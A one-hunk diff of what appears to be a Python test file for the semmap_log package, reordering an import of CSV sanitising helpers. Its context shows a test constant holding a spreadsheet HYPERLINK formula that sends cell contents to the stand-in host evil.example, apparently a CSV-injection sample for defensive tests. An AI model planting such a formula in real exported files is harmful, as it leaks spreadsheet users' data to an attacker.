@@ -14,8 +14,8 @@ from hypothesis import strategies as st
 import semmap_log as sl
 from semmap_log.exporting.log_files import export
 from semmap_log.formats.files import csv_blocks
-from semmap_log.formats.parsing.csv_text import harmless, meant
 from semmap_log.formats.files.door_csv import read_door_csv
+from semmap_log.formats.parsing.csv_text import harmless, meant
 from semmap_log.importing.importing import import_file
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
